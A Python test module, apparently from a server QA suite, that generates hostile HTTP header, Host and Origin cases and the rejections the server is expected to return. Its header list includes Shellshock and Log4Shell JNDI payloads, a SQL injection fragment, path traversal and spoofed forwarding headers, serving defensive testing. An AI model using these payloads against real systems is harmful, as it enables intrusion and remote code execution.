"""Headers that lie, and origins that may not ask."""

from collections.abc import Iterator

from tests.qa.server.hostile.case import ASK, HELLO, JSON, Case

HEADERS = (
    ("accept-language", "x" * 4_000), ("accept-language", ";q=;;,,q=1e999"),
    ("accept-language", "\u00e9"), ("accept-language", "ru;q=nan"), ("accept", "application/xml"),
    ("authorization", "Bearer x"), ("authorization", "Basic YTpi"),
    ("authorization", "Bearer " + "a" * 4_000), ("authorization", ""),
    ("x-seedqa-session", "../../etc"), ("x-seedqa-session", "0" * 5_000),
    ("x-seedqa-session", "' OR 1=1"), ("x-forwarded-for", "127.0.0.1"),
    ("x-forwarded-for", "evil, ,, 1"), ("x-forwarded-for", "::1"),
    ("x-forwarded-for", "a" * 4_000), ("x-forwarded-proto", "javascript"),
    ("x-forwarded-host", "evil.example"), ("forwarded", "for=127.0.0.1;host=evil"),
    ("x-real-ip", "127.0.0.1"), ("x-original-url", "/metrics"), ("x-rewrite-url", "/metrics"),
    ("x-http-method-override", "DELETE"), ("x-request-id", "a\u00e9"),
    ("x-request-id", "x" * 4_000), ("cookie", "a=" + "b" * 4_000), ("range", "bytes=0-0,0-0,0-0"),
    ("if-none-match", "*"), ("te", "trailers"), ("upgrade", "websocket"),
    ("content-encoding", "gzip"), ("expect", "100-continue"),
    ("referer", "javascript:alert(1)"), ("user-agent", "() { :; }; /bin/id"),
    ("user-agent", "${jndi:ldap://evil}"),
)  # fmt: skip


def headers() -> Iterator[Case]:
    for name, value in HEADERS:
        headers = {**JSON, name: value}
        yield Case(f"{name}: {value[:30]}", "POST", ASK, 200, None, HELLO, headers)
    for name in ("x-forwarded-for", "x-real-ip", "forwarded", "via"):
        yield Case(
            f"figures with {name}",
            "GET",
            "/metrics",
            401,
            "token_missing",
            None,
            {name: "127.0.0.1"},
        )
    for host in (
        "evil.example",
        "localhost.evil.example",
        "127.0.0.1.nip.io",
        "0.0.0.0",
        "a b",
        "",
    ):
        yield Case(f"host {host!r}", "POST", ASK, 421, "wrong_host", HELLO, {**JSON, "host": host})


ORIGINS = (
    "null", "", "*", "https://localhost", "http://localhost:81", "http://localhost.evil.io",
    "http://evil.io", "http://localhost@evil.io", "http://evil.io#http://localhost", "file://",
    "http://127.0.0.1", "http://[::1]", "http://LOCALHOST.", "data:text/html,x",
    "http://localhost/", "http://localhost http://evil.io", "http://site.example",
    "https://site.example:444", "https://site.example.evil.io",
)  # fmt: skip


def origins() -> Iterator[Case]:
    for origin in ORIGINS:
        headers = {**JSON, "origin": origin}
        yield Case(f"origin {origin!r}", "POST", ASK, 403, "origin_refused", HELLO, headers)
